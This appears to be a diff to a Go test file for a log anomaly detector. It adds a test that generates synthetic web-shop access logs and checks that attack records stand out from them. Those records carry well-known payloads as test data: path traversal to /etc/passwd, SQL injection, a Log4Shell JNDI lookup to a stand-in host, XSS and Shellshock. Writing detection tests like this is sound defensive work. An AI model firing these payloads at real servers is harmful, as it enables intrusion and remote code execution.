@@ -2,6 +2,7 @@ package detector_test
 
 import (
 	"fmt"
+	"math"
 	"math/rand/v2"
 	"testing"
 )
@@ -81,6 +82,65 @@ func TestALongHealthyLog(t *testing.T) {
 	} {
 		if v := w.judge(line); !v.Anomaly {
 			t.Errorf("%s is not told: %.3f, %s", name, v.Score, line)
+		}
+	}
+}
+
+// TestALongHealthyAccessLog: a site of many pages, all of which are asked for again, stays
+// quiet, however seldom some are, and an attack on it is told.
+func TestALongHealthyAccessLog(t *testing.T) {
+	const records, measured, most = 60_000, 30_000, 5 // flags in 10,000
+	rng := rand.New(rand.NewPCG(6, 6))
+	words := []string{"tea", "mug", "pot", "cup", "green", "red", "blue", "kettle", "spoon", "tray", "jar", "oolong"}
+	clients, products := make([]string, 3000), make([]string, 1500)
+	for i := range clients {
+		clients[i] = fmt.Sprintf("10.%d.%d.%d", rng.IntN(256), rng.IntN(256), rng.IntN(256))
+	}
+	for i := range products {
+		products[i] = fmt.Sprintf("%s-%s-%d", pick(rng, words...), pick(rng, words...), rng.IntN(99))
+	}
+	skewed := func(list []string, power float64) string {
+		return list[int(math.Pow(rng.Float64(), power)*float64(len(list)))]
+	}
+	line := func(verb, path string, code int, agent string) string {
+		return fmt.Sprintf(`{"remote":%q,"method":%q,"path":%q,"code":"%d","size":"%d","referer":%q,"agent":%q}`,
+			skewed(clients, 2), verb, path, code, 150+rng.IntN(20_000), pick(rng, "-", "-", "https://shop.example/", "https://shop.example/p/"+pick(rng, products...)), agent)
+	}
+	agent := func() string {
+		return pick(rng, fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 100+rng.IntN(30)),
+			"Mozilla/5.0 (compatible; searchbot/2.1; +https://search.example/bot.html)", "curl/8.5.0")
+	}
+	next := func() string {
+		path := "/p/" + skewed(products, 3)
+		switch x := rng.Float64(); {
+		case x < 0.15:
+			path = fmt.Sprintf("/static/app.%s.%s", pick(rng, "aab", "abc", "bca", "cab"), pick(rng, "js", "css"))
+		case x < 0.25:
+			path = "/search?q=" + pick(rng, words...) + "+" + pick(rng, words...)
+		case x < 0.45:
+			path = pick(rng, "/", "/cart")
+		case x < 0.47:
+			path = pick(rng, "/favicon.ico", "/robots.txt", "/.well-known/security.txt", "/sitemap.xml")
+		}
+		return line(mostly(rng, "GET", "GET", "POST"), path, []int{200, 200, 200, 200, 200, 304, 301, 404}[rng.IntN(8)], agent())
+	}
+	w := watch(t, next, records-measured)
+	flagged := w.goOn(measured)
+	t.Logf("%d of %d healthy records are flagged", flagged, measured)
+	if flagged*10_000 > most*measured {
+		t.Errorf("%d of the last %d of %d healthy records are flagged, at most %d in 10,000 wanted", flagged, measured, records, most)
+	}
+	for _, attack := range []string{
+		line("GET", "/../../../../etc/passwd", 404, agent()),
+		line("GET", "/search?q=1%27%20OR%201=1--", 200, agent()),
+		line("GET", "/p/red-mug-9?id=${jndi:ldap://198.51.100.7/a}", 200, agent()),
+		line("GET", "/p/<script>alert(1)</script>", 404, agent()),
+		line("TRACE", "/", 200, agent()),
+		line("GET", "/cart", 503, agent()),
+		line("GET", "/", 200, "() { :; }; /bin/bash -c id"),
+	} {
+		if v := w.judge(attack); !v.Anomaly {
+			t.Errorf("passes with %.3f: %s", v.Score, attack)
 		}
 	}
 }
